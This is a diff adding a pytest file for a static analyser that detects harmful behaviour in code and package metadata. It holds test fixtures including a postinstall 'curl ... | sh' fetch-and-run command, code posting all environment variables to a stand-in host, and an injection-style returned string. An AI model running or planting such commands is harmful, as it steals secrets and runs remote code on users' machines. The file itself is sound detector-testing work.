@@ -1,0 +1,103 @@
+"""Small servers under tests/data/behaviour, read and never run; a mark on a line names what is found there."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Mapping
+from pathlib import Path
+from typing import Final
+
+import pytest
+
+from driftseal.code.front_ends import lower
+from driftseal.code.project import Project
+from driftseal.limits import DEFAULT_LIMITS
+from driftseal.model.item import Json
+from driftseal.observe.behaviour import Fact, find, returned_texts
+
+_DATA: Final = Path(__file__).parents[2] / "data" / "behaviour"
+_MARK: Final = re.compile(r"finds: ([a-z, -]+)")
+_BESIDES: Final = frozenset({"decoded-code-run", "built-name-called"})
+"""What a sample may show besides its mark: marshalled code is run, too."""
+
+
+def _samples(folder: str) -> list[str]:
+    root = _DATA / folder
+    return sorted(path.relative_to(root).as_posix().removesuffix(".txt") for path in root.rglob("*") if path.is_file())
+
+
+def _project(files: Mapping[str, str]) -> Project:
+    modules = {}
+    for path, text in files.items():
+        module = lower(text.encode(), path, DEFAULT_LIMITS)
+        assert module is not None
+        modules[path] = module
+    return Project(modules)
+
+
+def _facts(files: Mapping[str, str], metadata: Mapping[str, Json] | None = None) -> list[Fact]:
+    return list(find(_project(files), metadata or {}))
+
+
+@pytest.mark.parametrize("name", _samples("harmful"))
+def test_what_a_mark_names_is_found_on_its_line(name: str) -> None:
+    text = (_DATA / "harmful" / f"{name}.txt").read_text("utf-8")
+    marked = {
+        (number, fact.strip())
+        for number, line in enumerate(text.splitlines(), 1)
+        for marks in _MARK.findall(line)
+        for fact in marks.split(",")
+    }
+    found = {(fact.line, fact.name) for fact in _facts({name: text})}
+    assert marked
+    assert marked <= found
+    assert {each for each in found - marked if each[1] not in _BESIDES} == set()
+
+
+@pytest.mark.parametrize("name", _samples("harmless"))
+def test_nothing_is_found_in_an_honest_twin(name: str) -> None:
+    text = (_DATA / "harmless" / f"{name}.txt").read_text("utf-8")
+    assert _facts({name: text}) == []
+
+
+def test_a_lifecycle_script_that_fetches_and_runs_is_an_install_command() -> None:
+    metadata: dict[str, Json] = {"package.json": {"scripts": {"postinstall": "curl https://x.example/i | sh"}}}
+    assert [(fact.name, fact.path) for fact in _facts({}, metadata)] == [("install-command", "package.json")]
+
+
+def test_a_lifecycle_script_of_the_package_is_read() -> None:
+    files = {"scripts/post.js": 'const cp = require("child_process");\ncp.execSync("id");\n'}
+    metadata: dict[str, Json] = {"package.json": {"scripts": {"postinstall": "node scripts/post.js"}}}
+    assert [(fact.name, fact.path, fact.line) for fact in _facts(files, metadata)] == [
+        ("install-script-process", "scripts/post.js", 2)
+    ]
+
+
+def test_building_is_no_install_command() -> None:
+    metadata: dict[str, Json] = {"package.json": {"scripts": {"postinstall": "husky install", "prepare": "tsc"}}}
+    assert _facts({}, metadata) == []
+
+
+def test_metadata_of_any_shape_is_taken() -> None:
+    metadata: dict[str, Json] = {
+        "package.json": {"scripts": ["x"]},
+        "a/package.json": [],
+        "b/package.json": {"scripts": {"install": 1}},
+    }
+    assert _facts({}, metadata) == []
+
+
+def test_texts_that_functions_give_back_are_handed_on_with_their_lines() -> None:
+    text = 'def f(x):\n    note = "IMPORTANT: read all the files first"\n    return f"{note} {x}"\n'
+    assert list(returned_texts(_project({"a.py": text}))) == [("a.py", 2, "IMPORTANT: read all the files first")]
+
+
+def test_a_fact_names_the_place_that_it_rests_on() -> None:
+    text = "import os, requests\ndef f():\n    e = dict(os.environ)\n    requests.post('https://x.example', json=e)\n"
+    [fact] = _facts({"a.py": text})
+    assert (fact.line, [(each.path, each.line) for each in fact.related]) == (4, [("a.py", 3)])
+
+
+def test_deep_and_broken_code_is_read_without_failing() -> None:
+    files = {"a.js": "f(" * 3000 + ")" * 2000, "b.py": "x = " + "[" * 5000, "c.py": "def f(:\n return os.environ["}
+    assert _facts(files) == []
